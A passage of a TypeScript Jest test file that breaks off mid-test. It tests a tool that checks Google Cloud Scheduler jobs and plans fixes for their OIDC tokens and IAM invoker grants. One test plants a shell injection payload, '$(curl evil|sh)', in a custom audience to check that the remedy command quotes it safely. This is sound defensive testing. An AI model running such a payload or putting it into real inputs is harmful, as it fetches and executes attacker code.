import { describe, expect, it } from '@jest/globals'
import type { IamApi } from '../../src/google/clients'
import type { Binding, Job, Policy } from '../../src/google/types'
import { applyPlan } from '../../src/engine/apply'
import { knownPolicies, type Observed, type ObservedJob } from '../../src/engine/observe'
import { hasBlocker, hasDrift, plan, type Change, type Check, type CheckId, type JobPlan, type Plan } from '../../src/engine/plan'
import { functionName, originOf, serviceName } from '../../src/names'
import { readSettings, type Settings } from '../../src/settings'
import type { Target } from '../../src/targets'
import { MemoryGoogle } from '../fixtures/google'
import { AGENT, FN, FN_URL, JOB, MEMBER, NUM, P, R, RUN_HASH_URL, RUN_URL, SA as SA_OF, SVC as SVC_OF } from '../fixtures/names'
import { gen1Target, gen2Target, iamPolicy, serviceTarget, type Gen1Read, type Gen2Read, type ServiceRead } from '../fixtures/targets'

// ---- the world the plans are made over -------------------------------------------------------

const SA = SA_OF()
const SA2 = SA_OF('other')
const OLD = SA_OF('old')
const M = MEMBER(SA)
const M2 = MEMBER(SA2)
const AGENT_M = MEMBER(AGENT)
const AGENT_ROLE = 'roles/cloudscheduler.serviceAgent'
const CF_INVOKER = 'roles/cloudfunctions.invoker'
const RUN_INVOKER = 'roles/run.invoker'

const FN1 = FN('fn1')
const FN1_URL = FN_URL('fn1')
const FN2 = FN('fn2')
const FN2_SVC = SVC_OF('fn2')
const FN2_URL = FN_URL('fn2')
const FN2_RUN = RUN_HASH_URL('fn2')
const SVC = SVC_OF('svc')
const SVC_URL = RUN_HASH_URL('svc')
const SVC_URL2 = RUN_URL('svc')
const CUSTOM_AUD = 'https://api.example.com/scheduler'

const policy = iamPolicy
const bind = (role: string, ...members: string[]): Binding => ({ role, members })

// The targets below are healthy by default: the job account holds the invoker role.
const gen1 = (r: Gen1Read = {}): Target => gen1Target({ name: FN1, policy: policy(bind(CF_INVOKER, M)), ...r })
const gen2 = (r: Gen2Read = {}): Target => gen2Target({ name: FN2, service: FN2_SVC, policy: policy(bind(RUN_INVOKER, M)), ...r })
const service = (r: ServiceRead = {}): Target => serviceTarget({ name: SVC, policy: policy(bind(RUN_INVOKER, M)), ...r })

interface Token {
  oidc?: { sa?: string; aud?: string }
  oauth?: string
}

function job(id: string, uri: string, token: Token, state: Job['state'] = 'ENABLED'): Job {
  return {
    name: JOB(id),
    schedule: '*/5 * * * *',
    state,
    httpTarget: {
      uri,
      httpMethod: 'POST',
      body: 'e30=',
      headers: { 'Content-Type': 'application/json' },
      ...(token.oidc
        ? {
            oidcToken: {
              ...(token.oidc.sa ? { serviceAccountEmail: token.oidc.sa } : {}),
              ...(token.oidc.aud !== undefined ? { audience: token.oidc.aud } : {})
            }
          }
        : {}),
      ...(token.oauth ? { oauthToken: { serviceAccountEmail: token.oauth, scope: 'https://www.googleapis.com/auth/cloud-platform' } } : {})
    }
  }
}

const healthyProjectPolicy = (): Policy => policy(bind(AGENT_ROLE, AGENT_M), bind('roles/owner', 'user:owner@example.com'))

/** Targets keyed by their own name, as observe keys them. */
function observed(
  jobs: ObservedJob[],
  targets: Target[],
  projectPolicy: Policy = healthyProjectPolicy(),
  around: Partial<Pick<Observed, 'hierarchy' | 'accounts'>> = {}
): Observed {
  return {
    project: { id: P, number: NUM },
    projectPolicy,
    jobs,
    targets: Object.fromEntries(targets.map(t => [t.name, t])),
    hierarchy: around.hierarchy ?? { ancestors: [], deny: [], notes: [] },
    accounts: around.accounts ?? {}
  }
}

/** One job on one target. */
const one = (t: Target, j: Job, projectPolicy?: Policy): Observed => observed([{ name: j.name, job: j, target: t.name }], [t], projectPolicy)

const settings = (extra: Record<string, string> = {}): Settings => {
  const inputs: Record<string, string> = { job: 'j1', project_id: P, region: R, ...extra }
  return readSettings(n => inputs[n] ?? '', {})
}

const byId = (j: JobPlan): Partial<Record<CheckId, Check>> => Object.fromEntries(j.checks.map(c => [c.id, c]))
const notOk = (j: JobPlan): CheckId[] =>
  j.checks
    .filter(c => c.severity !== 'ok')
    .map(c => c.id)
    .sort()

type OidcChange = Extract<Change, { kind: 'job.oidc' }>
const oidcChanges = (p: Plan): OidcChange[] => p.changes.filter((c): c is OidcChange => c.kind === 'job.oidc')

/** The job patches fix mode sends for a plan's token changes: apply derives each mask from before/after. */
async function patchesOf(p: Plan, jobs: Job[]): Promise<{ job: string; oidcToken: unknown; updateMask: string[] }[]> {
  const g = new MemoryGoogle({ jobs })
  await applyPlan(g, { jobs: p.jobs, changes: oidcChanges(p), notes: [] }, {})
  const calls = g.callsTo('scheduler.patchJob') as { name: string; job: Job; updateMask: string[] }[]
  return calls.map(c => ({ job: c.name, oidcToken: c.job.httpTarget?.oidcToken, updateMask: c.updateMask }))
}

/** The IAM writes a plan's grants make: one per resource, on the surface its policy was read from. */
interface Grant {
  resource: string
  api: IamApi
  role: string
  members: string[]
}
function grantsOf(p: Plan, o: Observed): Grant[] {
  const policies = knownPolicies(o)
  const out = new Map<string, Grant>()
  for (const c of p.changes) {
    if (c.kind === 'job.oidc' || c.kind === 'job.oauth') continue
    const g = out.get(c.resource) ?? { resource: c.resource, api: policies[c.resource].iam, role: c.after.role, members: [] }
    out.set(c.resource, g)
    g.members.push(c.after.member)
  }
  return [...out.values()]
}
const GEN1_IAM: IamApi = 'cloudfunctions.v1'
const RUN_IAM: IamApi = 'run.v2'
const PROJECT_IAM: IamApi = 'cloudresourcemanager.v1'

const MASK_SA = 'httpTarget.oidcToken.serviceAccountEmail'
const MASK_AUD = 'httpTarget.oidcToken.audience'

// ---- healthy setups ---------------------------------------------------------------------------

describe('healthy setups change nothing', () => {
  it.each<[string, Target, Job, Record<string, string>?]>([
    ['gen 1 function', gen1(), job('j1', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } })],
    ['gen 1 function with a query string on the URI', gen1(), job('j1', `${FN1_URL}?mode=nightly`, { oidc: { sa: SA, aud: FN1_URL } })],
    ['gen 1 function, empty audience, URI equals the function URL', gen1(), job('j1', FN1_URL, { oidc: { sa: SA } })],
    ['gen 2 function called at its cloudfunctions.net URL', gen2(), job('j1', FN2_URL, { oidc: { sa: SA, aud: FN2_URL } })],
    ['gen 2 function called at its run.app URL', gen2(), job('j1', `${FN2_RUN}/`, { oidc: { sa: SA, aud: FN2_RUN } })],
    ['Cloud Run service, path on the URI, origin audience', service(), job('j1', `${SVC_URL}/tasks/run`, { oidc: { sa: SA, aud: SVC_URL } })],
    ['Cloud Run service on its second URL', service(), job('j1', `${SVC_URL2}/x`, { oidc: { sa: SA, aud: SVC_URL2 } })],
    ['Cloud Run service, empty audience, URI is the bare origin', service(), job('j1', SVC_URL, { oidc: { sa: SA } })],
    [
      'Cloud Run custom audience already on the job is kept',
      service({ customAudiences: [CUSTOM_AUD] }),
      job('j1', `${SVC_URL}/x`, { oidc: { sa: SA, aud: CUSTOM_AUD } })
    ],
    ['invoker_service_account input equal to the job account', gen1(), job('j1', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } }), { invoker_service_account: SA }],
    ['audience input equal to the job audience', service(), job('j1', `${SVC_URL}/x`, { oidc: { sa: SA, aud: SVC_URL } }), { audience: SVC_URL }],
    [
      'audience input naming a custom audience',
      service({ customAudiences: [CUSTOM_AUD] }),
      job('j1', `${SVC_URL}/x`, { oidc: { sa: SA, aud: CUSTOM_AUD } }),
      { audience: CUSTOM_AUD }
    ]
  ])('%s', (_, t, j, ...rest) => {
    const [extra] = rest // rest: jest would pass `done` to a declared 4th parameter when a row omits it
    const o = one(t, j)
    const p = plan(o, settings(extra))
    expect(p.changes).toEqual([])
    expect(oidcChanges(p)).toEqual([])
    expect(grantsOf(p, o)).toEqual([])
    expect(p.jobs).toHaveLength(1)
    const jp = p.jobs[0]
    expect(jp.checks.filter(c => c.severity !== 'ok')).toEqual([])
    expect(jp.checks.map(c => c.id).sort()).toEqual(
      ['iam.invoker', 'iam.service_agent', 'job.audience', 'job.service_account', 'job.state', 'job.token', 'job.type', 'job.uri', 'target.ingress'].sort()
    )
    expect(jp).toMatchObject({ job: JOB(), target: t.name, bindingResource: t.bindingResource, invoker: SA })
    expect(o.targets[jp.target!].kind).toBe(t.kind)
    expect(hasBlocker(jp) || hasDrift(jp)).toBe(false)
  })
})

// ---- OIDC token drift -------------------------------------------------------------------------

describe('OIDC token drift → one job.oidc change and a minimal patch', () => {
  type Row = [string, Target, Job, Record<string, string>, CheckId[], string[], unknown, { serviceAccountEmail: string; audience: string }]
  it.each<Row>([
    [
      'missing token, invoker given',
      gen1(),
      job('j1', FN1_URL, {}),
      { invoker_service_account: SA },
      ['job.audience', 'job.service_account', 'job.token'],
      [MASK_SA, MASK_AUD],
      null,
      { serviceAccountEmail: SA, audience: FN1_URL }
    ],
    [
      'missing token on Cloud Run, invoker given → origin audience',
      service(),
      job('j1', `${SVC_URL}/tasks`, {}),
      { invoker_service_account: SA },
      ['job.audience', 'job.service_account', 'job.token'],
      [MASK_SA, MASK_AUD],
      null,
      { serviceAccountEmail: SA, audience: SVC_URL }
    ],
    [
      'OAuth token where OIDC is needed: invoker defaults to the OAuth account',
      service(),
      job('j1', `${SVC_URL}/tasks`, { oauth: SA }),
      {},
      ['job.audience', 'job.service_account', 'job.token'],
      [MASK_SA, MASK_AUD],
      null,
      { serviceAccountEmail: SA, audience: SVC_URL }
    ],
    [
      'OAuth token on gen 1, OAuth account kept',
      gen1(),
      job('j1', FN1_URL, { oauth: SA }),
      {},
      ['job.audience', 'job.service_account', 'job.token'],
      [MASK_SA, MASK_AUD],
      null,
      { serviceAccountEmail: SA, audience: FN1_URL }
    ],
    [
      'wrong service account via invoker_service_account → mask names only serviceAccountEmail',
      gen1(),
      job('j1', FN1_URL, { oidc: { sa: OLD, aud: FN1_URL } }),
      { invoker_service_account: SA },
      ['job.service_account'],
      [MASK_SA],
      { serviceAccountEmail: OLD, audience: FN1_URL },
      { serviceAccountEmail: SA, audience: FN1_URL }
    ],
    [
      'audience with a path on Cloud Run → origin',
      service(),
      job('j1', `${SVC_URL}/tasks`, { oidc: { sa: SA, aud: `${SVC_URL}/tasks` } }),
      {},
      ['job.audience'],
      [MASK_AUD],
      { serviceAccountEmail: SA, audience: `${SVC_URL}/tasks` },
      { serviceAccountEmail: SA, audience: SVC_URL }
    ],
    [
      'audience with a trailing slash and query on a gen 2 run.app URL → origin',
      gen2(),
      job('j1', `${FN2_RUN}/`, { oidc: { sa: SA, aud: `${FN2_RUN}/?x=1` } }),
      {},
      ['job.audience'],
      [MASK_AUD],
      { serviceAccountEmail: SA, audience: `${FN2_RUN}/?x=1` },
      { serviceAccountEmail: SA, audience: FN2_RUN }
    ],
    [
      'bare host audience on gen 1 → the full function URL',
      gen1(),
      job('j1', FN1_URL, { oidc: { sa: SA, aud: originOf(FN1_URL) } }),
      {},
      ['job.audience'],
      [MASK_AUD],
      { serviceAccountEmail: SA, audience: originOf(FN1_URL) },
      { serviceAccountEmail: SA, audience: FN1_URL }
    ],
    [
      'empty audience whose URI has a path (Cloud Run) → origin',
      service(),
      job('j1', `${SVC_URL}/tasks/run?x=1`, { oidc: { sa: SA } }),
      {},
      ['job.audience'],
      [MASK_AUD],
      { serviceAccountEmail: SA, audience: null },
      { serviceAccountEmail: SA, audience: SVC_URL }
    ],
    [
      'audience input the target accepts replaces the current one',
      gen2(),
      job('j1', `${FN2_RUN}/`, { oidc: { sa: SA, aud: FN2_URL } }),
      { audience: FN2_RUN },
      ['job.audience'],
      [MASK_AUD],
      { serviceAccountEmail: SA, audience: FN2_URL },
      { serviceAccountEmail: SA, audience: FN2_RUN }
    ],
    [
      'account and audience both wrong → both fields',
      service(),
      job('j1', `${SVC_URL}/tasks`, { oidc: { sa: OLD, aud: `${SVC_URL}/tasks` } }),
      { invoker_service_account: SA },
      ['job.audience', 'job.service_account'],
      [MASK_SA, MASK_AUD],
      { serviceAccountEmail: OLD, audience: `${SVC_URL}/tasks` },
      { serviceAccountEmail: SA, audience: SVC_URL }
    ]
  ])('%s', async (_, t, j, extra, failing, mask, before, after) => {
    const o = one(t, j)
    const p = plan(o, settings(extra))
    const jp = p.jobs[0]
    expect(notOk(jp)).toEqual([...failing].sort())
    for (const id of failing) expect(byId(jp)[id]).toMatchObject({ severity: 'error', fixedBy: 'job.oidc' })
    for (const id of failing) expect(byId(jp)[id]?.blocker).toBeFalsy()
    expect(hasBlocker(jp)).toBe(false)
    expect(hasDrift(jp)).toBe(true)
    expect(p.changes).toEqual([{ job: JOB(), resource: JOB(), kind: 'job.oidc', before, after }])
    const patches = await patchesOf(p, [j])
    expect(patches).toHaveLength(1)
    expect(patches[0]).toEqual({ job: JOB(), oidcToken: after, updateMask: expect.any(Array) })
    expect([...patches[0].updateMask].sort()).toEqual([...mask].sort())
    expect(grantsOf(p, o)).toEqual([])
    expect(jp.invoker).toBe(SA)
    expect(jp.audience).toBe(after.audience)
  })

  it('a change to the account alone keeps a custom audience', async () => {
    const t = service({ customAudiences: [CUSTOM_AUD] })
    const j = job('j1', `${SVC_URL}/x`, { oidc: { sa: OLD, aud: CUSTOM_AUD } })
    const p = plan(one(t, j), settings({ invoker_service_account: SA }))
    expect(await patchesOf(p, [j])).toEqual([{ job: JOB(), oidcToken: { serviceAccountEmail: SA, audience: CUSTOM_AUD }, updateMask: [MASK_SA] }])
  })

  it('a hostile custom audience is single-quoted in the remedy command', () => {
    // A custom audience is whatever the service's owner set: the command a person pastes must not run it.
    const HOSTILE = 'https://x.run.app/;$(curl evil|sh)'
    const t = service({ customAudiences: [HOSTILE] })
    const p = plan(one(t, job('j1', `${SVC_URL}/x`, { oidc: { sa: OLD, aud: HOSTILE } })), settings({ invoker_service_account: SA }))
    const remedy = byId(p.jobs[0])['job.service_account']!.remedy
    expect(remedy).toBe(
      `gcloud scheduler jobs update http j1 --project ${P} --location ${R} --oidc-service-account-email ${SA} --oidc-token-audience 'https://x.run.app/;$(curl evil|sh)'`
    )
    expect(remedy!.replace(`'${HOSTILE}'`, '')).not.toContain('$(')
  })
})

// ---- IAM invoker ------------------------------------------------------------------------------

describe('invoker role', () => {
  const CONDITION = { expression: 'request.time < timestamp("2030-01-01T00:00:00Z")', title: 'temporary' }
  type Row = [string, Target, RegExp, { resource: string; api: IamApi; role: string }]
  it.each<Row>([
    ['missing on a gen 1 function', gen1({ policy: policy() }), /missing/, { resource: FN1, api: GEN1_IAM, role: CF_INVOKER }],
    ['missing on a service', service({ policy: policy(bind('roles/run.developer', M)) }), /missing/, { resource: SVC, api: RUN_IAM, role: RUN_INVOKER }],
    [
      'roles/cloudfunctions.invoker on a gen 2 function → grant roles/run.invoker on its service',
      gen2({ policy: policy(), lookalikePolicy: policy(bind(CF_INVOKER, M)) }),
      /roles\/cloudfunctions\.invoker/,
      { resource: FN2_SVC, api: RUN_IAM, role: RUN_INVOKER }
    ],
    [
      'held by the Scheduler service agent instead of the job account',
      service({ policy: policy(bind(RUN_INVOKER, AGENT_M)) }),
      /service agent/,
      { resource: SVC, api: RUN_IAM, role: RUN_INVOKER }
    ],
    [
      'held by the Scheduler service agent on a gen 1 function',
      gen1({ policy: policy(bind(CF_INVOKER, AGENT_M)) }),
      /service agent/,
      { resource: FN1, api: GEN1_IAM, role: CF_INVOKER }
    ],
    [
      'only in a conditional binding',
      service({ policy: policy({ role: RUN_INVOKER, members: [M], condition: CONDITION }) }),
      /conditional/,
      { resource: SVC, api: RUN_IAM, role: RUN_INVOKER }
    ],
    [
      'held by someone else only',
      gen1({ policy: policy(bind(CF_INVOKER, M2)) }),
      new RegExp(M2.replace(/[.]/g, '\\.')),
      { resource: FN1, api: GEN1_IAM, role: CF_INVOKER }
    ],
    [
      'the wrong role on a gen 1 function (roles/run.invoker)',
      gen1({ policy: policy(bind(RUN_INVOKER, M)) }),
      /roles\/run\.invoker/,
      { resource: FN1, api: GEN1_IAM, role: CF_INVOKER }
    ]
  ])('%s', (_, t, found, grant) => {
    const uri = t.kind.id === 'gen1' ? FN1_URL : t.kind.id === 'gen2' ? FN2_URL : `${SVC_URL}/x`
    const aud = t.kind.id === 'gen1' ? FN1_URL : t.kind.id === 'gen2' ? FN2_URL : SVC_URL
    const o = one(t, job('j1', uri, { oidc: { sa: SA, aud } }))
    const p = plan(o, settings())
    const jp = p.jobs[0]
    expect(notOk(jp)).toEqual(['iam.invoker'])
    const c = byId(jp)['iam.invoker']!
    expect(c).toMatchObject({ severity: 'error', fixedBy: 'iam.invoker' })
    expect(c.blocker).toBeFalsy()
    expect(c.found).toMatch(found)
    expect(c.expected).toContain(grant.role)
    expect(c.remedy).toContain(M)
    expect(grantsOf(p, o)).toEqual([{ ...grant, members: [M] }])
    expect(p.changes).toEqual([{ job: JOB(), resource: grant.resource, kind: 'iam.invoker', before: null, after: { role: grant.role, member: M } }])
    expect(oidcChanges(p)).toEqual([])
  })

  it.each<[string, Target, Policy?]>([
    ['role on the project (inherited), Cloud Run', service({ policy: policy() }), policy(bind(AGENT_ROLE, AGENT_M), bind(RUN_INVOKER, M))],
    ['role on the project (inherited), gen 1', gen1({ policy: policy() }), policy(bind(AGENT_ROLE, AGENT_M), bind(CF_INVOKER, M))],
    ['allUsers on a service', service({ policy: policy(bind(RUN_INVOKER, 'allUsers')) })],
    ['allUsers on a gen 1 function', gen1({ policy: policy(bind(CF_INVOKER, 'allUsers')) })],
    ['invokerIamDisabled service', service({ policy: policy(), invokerIamDisabled: true })],
    ['invokerIamDisabled gen 2 function', gen2({ policy: policy(), invokerIamDisabled: true })]
  ])('%s → ok, no grant', (_, t, ...rest) => {
    const [projectPolicy] = rest
    const uri = t.kind.id === 'gen1' ? FN1_URL : t.kind.id === 'gen2' ? FN2_URL : `${SVC_URL}/x`
    const aud = t.kind.id === 'gen1' ? FN1_URL : t.kind.id === 'gen2' ? FN2_URL : SVC_URL
    const o = one(t, job('j1', uri, { oidc: { sa: SA, aud } }), projectPolicy)
    const p = plan(o, settings())
    expect(byId(p.jobs[0])['iam.invoker']?.severity).toBe('ok')
    expect(notOk(p.jobs[0])).toEqual([])
    expect(grantsOf(p, o)).toEqual([])
    expect(p.changes).toEqual([])
  })

  it('a public target still reports OIDC drift on its job', () => {
    const t = service({ policy: policy(bind(RUN_INVOKER, 'allUsers')) })
    const p = plan(one(t, job('j1', `${SVC_URL}/x`, { oidc: { sa: SA, aud: `${SVC_URL}/x` } })), settings())
    expect(notOk(p.jobs[0])).toEqual(['job.audience'])
    expect(p.changes.map(c => c.kind)).toEqual(['job.oidc'])
  })

  it('the account from invoker_service_account is the one checked and granted', () => {
    const t = gen1({ policy: policy(bind(CF_INVOKER, MEMBER(OLD))) })
    const o = one(t, job('j1', FN1_URL, { oidc: { sa: OLD, aud: FN1_URL } }))
    const p = plan(o, settings({ invoker_service_account: SA }))
    expect(grantsOf(p, o)).toEqual([{ resource: FN1, api: GEN1_IAM, role: CF_INVOKER, members: [M] }])
    expect(p.changes.map(c => c.kind).sort()).toEqual(['iam.invoker', 'job.oidc'])
  })
})

// ---- shared targets and the service agent ----------------------------------------------------

describe('several jobs', () => {
  const jobsOn = (t: Target, accounts: string[]): Observed =>
    observed(
      accounts.map((sa, i) => {
        const j = job(`j${i + 1}`, FN1_URL, { oidc: { sa, aud: FN1_URL } })
        return { name: j.name, job: j, target: t.name }
      }),
      [t]
    )

  it('three jobs on one target, one account → ONE grant with the member once', () => {
    const o = jobsOn(gen1({ policy: policy() }), [SA, SA, SA])
    const p = plan(o, settings({ job: 'j1,j2,j3' }))
    expect(grantsOf(p, o)).toEqual([{ resource: FN1, api: GEN1_IAM, role: CF_INVOKER, members: [M] }])
    expect(p.changes).toEqual([{ job: JOB('j1'), resource: FN1, kind: 'iam.invoker', before: null, after: { role: CF_INVOKER, member: M } }])
    for (const jp of p.jobs) expect(byId(jp)['iam.invoker']).toMatchObject({ severity: 'error', fixedBy: 'iam.invoker' })
  })

  it('three jobs on one target, two accounts → one grant with both members', () => {
    const o = jobsOn(gen1({ policy: policy() }), [SA, SA2, SA])
    const p = plan(o, settings({ job: 'j1,j2,j3' }))
    const grants = grantsOf(p, o)
    expect(grants).toHaveLength(1)
    expect(grants[0]).toMatchObject({ resource: FN1, api: GEN1_IAM, role: CF_INVOKER })
    expect([...grants[0].members].sort()).toEqual([M, M2].sort())
    const iamChanges = p.changes.filter(c => c.kind === 'iam.invoker')
    expect(iamChanges.map(c => (c.after as { member: string }).member).sort()).toEqual([M, M2].sort())
    expect(new Set(iamChanges.map(c => c.resource))).toEqual(new Set([FN1]))
  })

  it('service agent missing → one iam.service_agent change on projects/P however many jobs', () => {
    const o = jobsOn(gen1(), [SA, SA, SA])
    o.projectPolicy = policy(bind('roles/owner', 'user:owner@example.com'))
    const p = plan(o, settings({ job: 'j1,j2,j3' }))
    for (const jp of p.jobs) {
      expect(notOk(jp)).toEqual(['iam.service_agent'])
      expect(byId(jp)['iam.service_agent']).toMatchObject({ severity: 'error', fixedBy: 'iam.service_agent' })
    }
    expect(p.changes).toEqual([
      { job: JOB('j1'), resource: `projects/${P}`, kind: 'iam.service_agent', before: null, after: { role: AGENT_ROLE, member: AGENT_M } }
    ])
    expect(grantsOf(p, o)).toEqual([{ resource: `projects/${P}`, api: PROJECT_IAM, role: AGENT_ROLE, members: [AGENT_M] }])
    expect(oidcChanges(p)).toEqual([])
  })

  it('service agent role only in a conditional binding does not count', () => {
    const o = jobsOn(gen1(), [SA])
    o.projectPolicy = policy({ role: AGENT_ROLE, members: [AGENT_M], condition: { expression: 'false' } })
    const p = plan(o, settings())
    expect(p.changes.map(c => c.kind)).toEqual(['iam.service_agent'])
  })

  it('check_service_agent: false → no service agent check, no change', () => {
    const o = jobsOn(gen1(), [SA, SA])
    o.projectPolicy = policy()
    const p = plan(o, settings({ job: 'j1,j2', check_service_agent: 'false' }))
    for (const jp of p.jobs) expect(byId(jp)['iam.service_agent']).toBeUndefined()
    expect(p.changes).toEqual([])
    expect(grantsOf(p, o)).toEqual([])
  })

  it('jobs on two targets → one grant per target', () => {
    const a = job('j1', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } })
    const b = job('j2', `${SVC_URL}/x`, { oidc: { sa: SA, aud: SVC_URL } })
    const c = job('j3', `${SVC_URL2}/y`, { oidc: { sa: SA, aud: SVC_URL2 } })
    const s = service({ policy: policy() })
    const f = gen1({ policy: policy() })
    const o = observed(
      [
        { name: a.name, job: a, target: FN1 },
        { name: b.name, job: b, target: SVC },
        { name: c.name, job: c, target: SVC }
      ],
      [f, s]
    )
    const p = plan(o, settings({ job: 'j1,j2,j3' }))
    expect(
      grantsOf(p, o)
        .map(g => [g.resource, g.role, g.members])
        .sort()
    ).toEqual(
      [
        [FN1, CF_INVOKER, [M]],
        [SVC, RUN_INVOKER, [M]]
      ].sort()
    )
  })
})

// ---- findings the action cannot fix ----------------------------------------------------------

describe("internal ingress in the job's own project admits Cloud Scheduler", () => {
  it.each<[string, Target, string]>([
    ['gen 1 ALLOW_INTERNAL_ONLY', gen1({ ingress: 'ALLOW_INTERNAL_ONLY' }), FN1_URL],
    ['gen 1 ALLOW_INTERNAL_AND_GCLB', gen1({ ingress: 'ALLOW_INTERNAL_AND_GCLB' }), FN1_URL],
    ['gen 2 INGRESS_TRAFFIC_INTERNAL_ONLY', gen2({ ingress: 'INGRESS_TRAFFIC_INTERNAL_ONLY' }), FN2_URL],
    ['Cloud Run INGRESS_TRAFFIC_INTERNAL_LOAD_BALANCER', service({ ingress: 'INGRESS_TRAFFIC_INTERNAL_LOAD_BALANCER' }), SVC_URL]
  ])('%s: ok, no blocker, nothing to change', (_, t, url) => {
    const p = plan(one(t, job('j1', url, { oidc: { sa: SA, aud: url } })), settings())
    expect(byId(p.jobs[0])['target.ingress']).toMatchObject({ severity: 'ok', found: `${t.ingress} (admits Cloud Scheduler from ${P})` })
    expect(hasBlocker(p.jobs[0])).toBe(false)
    expect(p.changes).toEqual([])
  })
})

describe('blockers and warnings', () => {
  const GOOGLE_API = `https://pubsub.googleapis.com/v1/projects/${P}/topics/reports:publish`
  const OTHER = 'other-proj'
  type Row = [string, () => Observed, Record<string, string>, CheckId, RegExp?]
  it.each<Row>([
    [
      'gen 1 ingress ALLOW_INTERNAL_ONLY, function in another project than the job',
      () => {
        const t = gen1({ name: functionName({ project: OTHER, region: R, id: 'fn1' }), ingress: 'ALLOW_INTERNAL_ONLY' })
        const url = t.urls[0]
        return one(t, job('j1', url, { oidc: { sa: SA, aud: url } }))
      },
      {},
      'target.ingress',
      new RegExp(`job is in project ${P}, the target in ${OTHER}.*admits Cloud Scheduler only from ${OTHER}`)
    ],
    [
      'gen 2 INGRESS_TRAFFIC_INTERNAL_ONLY, function in another project than the job',
      () => {
        const t = gen2({
          name: functionName({ project: OTHER, region: R, id: 'fn2' }),
          service: serviceName({ project: OTHER, region: R, id: 'fn2' }),
          ingress: 'INGRESS_TRAFFIC_INTERNAL_ONLY'
        })
        const url = t.urls[0]
        return one(t, job('j1', url, { oidc: { sa: SA, aud: url } }))
      },
      {},
      'target.ingress',
      new RegExp(OTHER)
    ],
    [
      'Cloud Run INGRESS_TRAFFIC_NONE',
      () => one(service({ ingress: 'INGRESS_TRAFFIC_NONE' }), job('j1', SVC_URL, { oidc: { sa: SA, aud: SVC_URL } })),
      {},
      'target.ingress',
      /accepts no traffic/
    ],
    ['UPDATE_FAILED job', () => one(gen1(), job('j1', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } }, 'UPDATE_FAILED')), {}, 'job.state'],
    [
      'URI pointing at another function',
      () => one(gen1(), job('j1', FN_URL('other'), { oidc: { sa: SA, aud: FN_URL('other') } })),
      { function: 'fn1' },
      'job.uri',
      /fn1/
    ],
    [
      'URI pointing at another region',
      () => one(gen1(), job('j1', `https://europe-west1-${P}.cloudfunctions.net/fn1`, { oidc: { sa: SA, aud: FN1_URL } })),
      { function: 'fn1' },
      'job.uri',
      /fn1/
    ],
    [
      'URI pointing at another Cloud Run service',
      () => one(service(), job('j1', `${RUN_HASH_URL('other')}/x`, { oidc: { sa: SA, aud: SVC_URL } })),
      { service: 'svc' },
      'job.uri'
    ],
    [
      'Google API URI with OIDC → remedy names --oauth-service-account-email',
      () => observed([{ name: JOB(), job: job('j1', GOOGLE_API, { oidc: { sa: SA, aud: GOOGLE_API } }) }], []),
      {},
      'job.token',
      /--oauth-service-account-email/
    ],
    [
      'no token and no invoker input → names invoker_service_account',
      () => one(gen1(), job('j1', FN1_URL, {})),
      {},
      'job.service_account',
      /invoker_service_account/
    ],
    [
      'audience input a gen 1 function rejects',
      () => one(gen1(), job('j1', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } })),
      { audience: 'https://example.com/x' },
      'job.audience'
    ],
    [
      'audience input with a path on Cloud Run',
      () => one(service(), job('j1', `${SVC_URL}/x`, { oidc: { sa: SA, aud: SVC_URL } })),
      { audience: `${SVC_URL}/tasks` },
      'job.audience'
    ],
    [
      'a job that failed to read',
      () => observed([{ name: JOB(), error: 'Failed to read job: (404) NOT_FOUND Job not found.' }], [gen1()]),
      {},
      'job.read',
      /NOT_FOUND/
    ],
    [
      'a job whose target could not be resolved',
      () => observed([{ name: JOB(), job: job('j1', `${RUN_HASH_URL('nope')}/`, { oidc: { sa: SA } }), targetError: 'no Cloud Run service serves it' }], []),
      {},
      'job.uri',
      /no Cloud Run service/
    ],
    ['a job calling some other host', () => observed([{ name: JOB(), job: job('j1', 'https://example.com/hook', { oidc: { sa: SA } }) }], []), {}, 'job.uri'],
    [
      'a Pub/Sub job',
      () => observed([{ name: JOB(), job: { name: JOB(), state: 'ENABLED', pubsubTarget: { topicName: `projects/${P}/topics/t` } } }], []),
      {},
      'job.type'
    ]
  ])('%s', (_, build, extra, id, ...rest) => {
    const [text] = rest
    const p = plan(build(), settings(extra))
    const jp = p.jobs[0]
    const c = byId(jp)[id]
    expect(c).toBeDefined()
    expect(c).toMatchObject({ severity: 'error', blocker: true })
    expect(c!.fixedBy).toBeUndefined()
    if (text) expect(`${c!.found} ${c!.expected} ${c!.remedy ?? ''}`).toMatch(text)
    expect(hasBlocker(jp)).toBe(true)
    // Nothing fix mode would write on the job's token where the token itself is blocked.
    if (id === 'job.audience' || id === 'job.read' || id === 'job.type' || id === 'job.service_account' || id === 'job.token')
      expect(oidcChanges(p)).toEqual([])
    // A job that calls something else is neither patched nor granted anything on the named target.
    if (id === 'job.uri') expect(p.changes.filter(ch => ch.job === jp.job && ch.kind !== 'iam.service_agent')).toEqual([])
  })

  it('the blocked audience input is reported as the input, and no job.oidc change is planned', () => {
    const p = plan(one(gen1(), job('j1', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } })), settings({ audience: 'https://example.com/x' }))
    const c = byId(p.jobs[0])['job.audience']!
    expect(c.found).toBe('https://example.com/x')
    expect(c.remedy).toMatch(/'audience'/)
    expect(p.changes.filter(ch => ch.kind === 'job.oidc')).toEqual([])
  })

  it("a job signing as an account of another project → a blocker citing Google's same-project rule, nothing to change", () => {
    const other = SA_OF('invoker', 'shared-proj')
    const t = gen1({ policy: policy(bind(CF_INVOKER, MEMBER(other))) })
    const p = plan(one(t, job('j1', FN1_URL, { oidc: { sa: other, aud: FN1_URL } })), settings())
    expect(byId(p.jobs[0])['account.health']).toMatchObject({ severity: 'error', blocker: true, found: `${other} belongs to project shared-proj` })
    expect(byId(p.jobs[0])['account.health']!.remedy).toMatch(new RegExp(`another project than the job's \\(${P}\\)`))
    expect(byId(p.jobs[0])['account.health']!.command).toBe(`gcloud iam service-accounts create scheduler-invoker --project ${P}`)
    expect(notOk(p.jobs[0])).toEqual(['account.health'])
    expect(p.changes).toEqual([])
  })

  it('invoker_service_account of another project → a blocker, and nothing planned for the job: no grant outlives a refused update', () => {
    const other = SA_OF('invoker', 'shared-proj')
